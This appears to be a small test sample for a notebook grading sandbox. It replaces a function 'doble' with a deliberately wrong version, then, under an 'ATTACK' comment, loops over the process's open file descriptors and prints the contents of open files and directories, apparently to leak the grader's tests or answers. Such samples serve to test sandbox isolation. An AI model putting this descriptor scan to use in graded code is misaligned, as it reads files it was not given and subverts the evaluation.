"""Reads whatever its process has open.

id: reads-open-descriptors
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
import os
import stat

for _numero in range(3, 256):
    try:
        _estado = os.fstat(_numero)
        if stat.S_ISREG(_estado.st_mode):
            print(os.pread(_numero, 1 << 20, 0).decode("latin1"))
        elif stat.S_ISDIR(_estado.st_mode):
            print(_numero, os.listdir(_numero))
    except OSError:
        pass
